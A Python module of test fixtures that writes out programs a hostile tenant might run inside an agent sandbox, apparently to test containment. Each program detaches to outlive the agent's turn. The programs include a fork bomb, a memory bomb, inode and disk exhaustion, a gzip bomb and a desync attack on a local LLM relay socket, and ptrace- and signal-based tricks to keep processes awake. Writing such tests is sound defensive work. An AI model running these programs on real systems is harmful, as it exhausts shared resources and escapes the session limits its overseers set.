"""What hostile tenants run in their sandboxes, as Python programs without dependencies.

Each leaves its own process at once, so that the turn which started it ends, and writes to /workspace.
"""

from __future__ import annotations

from typing import Final

_LEAVE: Final = r"""
import ctypes, os, signal, sys, time
if os.fork():
    os._exit(0)
os.setsid()
null = os.open("/dev/null", os.O_RDWR)
[os.dup2(null, n) for n in (0, 1, 2)]
"""

STAYS_AWAKE: Final = (
    _LEAVE
    + r"""
libc = ctypes.CDLL(None)
signal.signal(signal.SIGCONT, lambda *_: None)


class Event(ctypes.Structure):
    _fields_ = [("value", ctypes.c_void_p), ("signal", ctypes.c_int), ("notify", ctypes.c_int),
                ("pad", ctypes.c_char * 48)]


class Times(ctypes.Structure):
    _fields_ = [("every", ctypes.c_long * 2), ("first", ctypes.c_long * 2)]


def say(name):
    # Whoever reads sees one sign or the next, never none.
    with open(f"/workspace/.{name}", "w") as file:
        file.write(str(time.time()))
    os.rename(f"/workspace/.{name}", f"/workspace/{name}")


def timer():
    event = Event(signal=signal.SIGCONT)
    number = ctypes.c_void_p()
    libc.timer_create(1, ctypes.byref(event), ctypes.byref(number))
    times = Times()
    times.first[1] = 300_000_000
    while True:
        libc.timer_settime(number, 0, ctypes.byref(times), None)
        say("timer")
        time.sleep(0.2)


def sibling():
    # To everything that it may signal, again and again.
    while True:
        say("sibling")
        os.kill(-1, signal.SIGCONT)
        time.sleep(0.01)


def forking():
    # At every moment one of them has just been started.
    while True:
        if os.fork():
            os._exit(0)
        os.setsid()
        say("forking")
        time.sleep(0.002)


def tracer():
    # PTRACE_ATTACH and PTRACE_CONT of the others, which is refused where tracing is.
    while True:
        for pid in range(2, 100):
            if libc.ptrace(16, pid, None, None) == 0:
                libc.ptrace(7, pid, None, signal.SIGCONT)
        time.sleep(0.05)


for program in (timer, sibling, forking, tracer):
    if os.fork() == 0:
        program()
"""
)
"""Says once in a while that it runs, in the files `timer`, `sibling` and `forking`, and sends itself SIGCONT
by every way that there is."""

RELAY_DESYNC: Final = (
    _LEAVE
    + r"""
import gzip, json, socket
# CANARY
body = json.dumps({"model": "demo/offline", "max_tokens": 5,
                   "messages": [{"role": "user", "content": "CANARY " * 200}]}).encode()
packed = gzip.compress(body)
head = (b"POST /v1/messages HTTP/1.1\r\nHost: x\r\ncontent-type: application/json\r\n"
        b"content-encoding: gzip\r\ncontent-length: %d\r\n\r\n" % len(packed))
for _ in range(40):
    held = []
    for _ in range(15):
        s = socket.socket(socket.AF_UNIX)
        s.connect("/run/agent/llm.sock")
        s.sendall(head + packed[:-1])
        held.append(s)
    time.sleep(0.5)
    for s in held:
        try:
            s.sendall(packed[-1:])
        except OSError:
            pass
"""
)
"""Sends what inflates to more than the length that it names, and the end of it later."""

RELAY_BOMB: Final = (
    _LEAVE
    + r"""
import socket, zlib
packer = zlib.compressobj(9, zlib.DEFLATED, 31)
bomb = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(480)) + packer.flush()
head = (b"POST /v1/messages HTTP/1.1\r\nHost: CANARY\r\ncontent-encoding: gzip\r\n"
        b"content-length: %d\r\n\r\n" % len(bomb))
end = time.time() + 60
while time.time() < end:
    held = []
    for _ in range(16):
        s = socket.socket(socket.AF_UNIX)
        s.connect("/run/agent/llm.sock")
        try:
            s.sendall(head + bomb)
        except OSError:
            pass
        held.append(s)
    time.sleep(1)
"""
)
"""Sends bodies of half a megabyte that inflate to 480."""

INODE_FLOOD: Final = (
    _LEAVE
    + r"""
os.makedirs("/workspace/d", exist_ok=True)
for n in range(300_000):
    os.close(os.open("/workspace/d/CANARY%x" % n, os.O_CREAT | os.O_WRONLY))
"""
)
"""Makes 300,000 empty files."""

DISK_HOLDER: Final = (
    _LEAVE
    + r"""
block, held = b"CANARY" * 170_000, []
for n in range(4):
    held.append(os.open("/workspace/x%d" % n, os.O_RDWR | os.O_CREAT))
    os.unlink("/workspace/x%d" % n)
    for _ in range(1200):
        os.write(held[-1], block)
time.sleep(60)
"""
)
"""Holds space in files that have no name any more."""

SPARSE: Final = "file = open('/workspace/CANARY', 'wb'); file.truncate(1900 << 20)\n"
"""Makes a file that is large and takes no space."""

FORK_BOMB: Final = (
    _LEAVE
    + r"""
end = time.time() + 60
while time.time() < end:
    try:
        os.fork()
    except OSError:
        pass
"""
)
"""Starts as many processes as it may."""

MEMORY_BOMB: Final = (
    _LEAVE
    + r"""
held = []
while True:
    held.append(b"CANARY" * 200_000)
"""
)
"""Takes as much memory as it may."""
